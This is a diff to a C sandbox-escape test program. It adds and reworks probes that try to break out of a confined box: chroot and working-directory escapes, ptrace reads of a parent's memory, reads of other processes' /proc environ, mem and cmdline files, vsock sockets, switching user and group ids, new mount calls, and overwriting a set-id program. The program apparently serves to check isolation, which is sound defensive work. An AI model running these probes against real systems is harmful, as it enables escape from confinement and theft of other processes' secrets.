@@ -2,7 +2,7 @@
 
    What an attack gets hold of it writes to stdout: the content of a file of the host, or one word for each thing that
    it could open or do. The exit status is 0 where there was something to write, 1 where everything failed, 2 for wrong
-   usage. Built static: the box needs nothing else. Nothing here writes to what it opened. */
+   usage. Built static: the box needs nothing else. What is opened outside of the box is not written to. */
 
 #ifdef AS_LOADER /* built with -nostdlib: the loader of the box, which changes the program that it is to load */
 void _start(void)
@@ -18,6 +18,7 @@ void _start(void)
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <grp.h>
 #include <limits.h>
 #include <linux/capability.h>
 #include <sched.h>
@@ -26,7 +27,6 @@ void _start(void)
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
-#include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
@@ -153,7 +153,7 @@ static void second_chroot(void)
     climb(kept, argument[0]);
 }
 
-/* NAME: a directory in the box that, when we have said "ready", is moved out; then the file NAME beside it */
+/* NAME SECRET: from a directory of the box that is moved out when we have said "ready", the file NAME above it */
 static void moved_directory(void)
 {
     char line[8];
@@ -171,6 +171,12 @@ static void moved_directory(void)
     climb(held, argument[1]);
 }
 
+/* SECRET: from the working directory */
+static void here(void)
+{
+    climb(open(".", O_PATH | O_DIRECTORY), argument[0]);
+}
+
 /* SECRET: through any descriptor that we were started with */
 static void descriptors(void)
 {
@@ -186,10 +192,10 @@ static void descriptors(void)
     }
 }
 
-/* PID ADDRESS LENGTH */
+/* PID ADDRESS LENGTH; with PID 0 our parent */
 static void trace(void)
 {
-    pid_t victim = number(0);
+    pid_t victim = number(0) ? number(0) : getppid();
     unsigned long address = strtoul(argument[1], NULL, 0);
     size_t length = (size_t)number(2);
     char path[64], buffer[4096] = "";
@@ -296,15 +302,19 @@ static void process_roots(void)
 
 static void one_secret(const char *process)
 {
-    char path[PATH_MAX];
-    static const char *const files[] = {"environ", "auxv", "maps", "mem", "stack", "pagemap", "io", "syscall"};
+    static const char *const files[] = {"auxv", "maps", "mem", "stack", "pagemap", "io", "syscall"};
+    char path[PATH_MAX], byte;
     size_t at;
     snprintf(path, sizeof path, "%s/environ", process);
     show_path(path);
-    for (at = 0; at < sizeof files / sizeof *files; at++) {
+    for (at = 0; at < sizeof files / sizeof *files; at++) { /* some refuse to be opened, others to be read */
+        int file;
         snprintf(path, sizeof path, "%s/%s", process, files[at]);
-        if (open(path, O_RDONLY) >= 0)
-            printf("opened %s\n", path), got = 1;
+        file = open(path, O_RDONLY);
+        if (file >= 0 && (!strcmp(files[at], "mem") || read(file, &byte, 1) == 1))
+            printf("read %s\n", path), got = 1;
+        if (file >= 0)
+            close(file);
     }
 }
 
@@ -321,7 +331,20 @@ static void one_program(const char *process)
         say(target);
 }
 
-/* what other processes run; and the mode of our parent's, which is the launcher or PID 1, changed */
+static void one_command(const char *process)
+{
+    char path[PATH_MAX];
+    snprintf(path, sizeof path, "%s/cmdline", process);
+    show_path(path);
+}
+
+/* the arguments of other processes */
+static void other_commands(void)
+{
+    each_process(one_command);
+}
+
+/* what other processes run, and the mode of our parent's, which is the launcher or PID 1, changed */
 static void other_programs(void)
 {
     char path[64];
@@ -384,6 +407,15 @@ static void receive(void)
     }
     memcpy(&file, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof file);
     show(file, "descriptor");
+}
+
+/* a socket of a family that network namespaces do not separate */
+static void vsock(void)
+{
+    if (socket(AF_VSOCK, SOCK_STREAM, 0) >= 0)
+        say("vsock");
+    else
+        failed("socket");
 }
 
 /* PORT: on the loopback */
@@ -559,23 +591,9 @@ static void set_id(void)
 /* PATH: a set-id program that is there already, its content replaced */
 static void replace(void)
 {
-    char byte = '#', *page;
-    int file = open(argument[0], O_RDWR);
-    struct stat before;
-    if (file < 0 || fstat(file, &before) < 0) {
+    int file = open(argument[0], O_WRONLY);
+    if (file < 0 || pwrite(file, "#", 1, 0) != 1)
         failed(argument[0]);
-        return;
-    }
-    if (argument[1]) {
-        page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
-        if (page == MAP_FAILED) {
-            failed("mmap");
-            return;
-        }
-        page[0] = byte;
-        msync(page, 4096, MS_SYNC);
-    } else if (pwrite(file, &byte, 1, 0) != 1)
-        failed("write");
 }
 
 /* PATH: cap_setuid, permitted and effective */
@@ -619,6 +637,18 @@ static void rights(void)
     got = 1;
 }
 
+/* the ids of somebody else */
+static void identities(void)
+{
+    gid_t group = 1;
+    if (setgroups(1, &group) == 0)
+        say("groups");
+    if (setresgid(1, 1, 1) == 0)
+        say("gid");
+    if (setresuid(1, 1, 1) == 0)
+        say("uid");
+}
+
 /* TYPE...: file systems that can be mounted */
 static void mounts(void)
 {
@@ -633,6 +663,12 @@ static void mounts(void)
         failed("bind");
     if (mount(NULL, "/tmp/mount", NULL, MS_SHARED, NULL) == 0)
         say("shared");
+    if (syscall(SYS_fsopen, "tmpfs", 0) >= 0)
+        say("fsopen");
+    if (syscall(SYS_open_tree, AT_FDCWD, "/", 1) >= 0) /* OPEN_TREE_CLONE */
+        say("open_tree");
+    if (syscall(SYS_pivot_root, "/tmp/mount", "/tmp/mount") == 0)
+        say("pivot_root");
 }
 
 /* new namespaces by each of the calls */
@@ -757,13 +793,13 @@ int main(int count, char **words)
         void (*attack)(void);
         int least;
     } attacks[] = {
-        {"second-chroot", second_chroot, 1}, {"moved-directory", moved_directory, 2}, {"descriptors", descriptors, 1},
+        {"second-chroot", second_chroot, 1}, {"moved-directory", moved_directory, 2}, {"descriptors", descriptors, 1}, {"here", here, 1},
         {"trace", trace, 3}, {"signal", send_signal, 2}, {"make-node", make_node, 3}, {"open", open_each, 1},
         {"process-roots", process_roots, 1}, {"other-environments", other_environments, 0},
-        {"other-programs", other_programs, 0}, {"sweep-proc", sweep_proc, 0}, {"receive", receive, 1},
-        {"loopback", loopback, 1}, {"handle", handle, 2}, {"rejoin", rejoin, 1}, {"uncover", uncover, 1},
+        {"other-commands", other_commands, 0}, {"other-programs", other_programs, 0}, {"sweep-proc", sweep_proc, 0}, {"receive", receive, 1},
+        {"loopback", loopback, 1}, {"vsock", vsock, 0}, {"handle", handle, 2}, {"rejoin", rejoin, 1}, {"uncover", uncover, 1},
         {"write", write_each, 1}, {"type", type, 1}, {"resize", resize, 1}, {"set-id", set_id, 1},
-        {"replace", replace, 1}, {"file-capability", file_capability, 1}, {"rights", rights, 0},
+        {"replace", replace, 1}, {"file-capability", file_capability, 1}, {"rights", rights, 0}, {"identities", identities, 0},
         {"modes", modes, 2}, {"mounts", mounts, 1}, {"namespaces", namespaces, 0}, {"keyring", keyring, 1},
         {"shared-memory", shared_memory, 1}, {"calls", calls, 0}, {"stay", stay, 1}, {"become", become, 1},
         {"nothing", nothing, 0},
